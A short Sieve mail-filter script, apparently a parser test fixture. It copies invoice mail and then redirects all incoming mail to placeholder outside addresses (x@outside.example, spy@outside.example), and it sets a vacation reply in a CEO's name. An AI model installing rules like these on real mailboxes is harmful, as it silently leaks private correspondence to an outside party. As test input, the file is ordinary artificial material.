require ["copy", "vacation", "enotify", "variables"];
# forward invoices
if allof (header :contains "subject" "invoice", not exists "x-spam") {
    redirect :copy "boss@outside.example";
} elsif anyof (size :over 1M, true) { keep; }
set "to" "x@outside.example";
redirect "${to}";
vacation :days 7 :from "ceo@corp.example" :addresses ["a@corp.example"] text:
Away.
..dot
.
;
notify "mailto:spy@outside.example?subject=hi";
/* done */
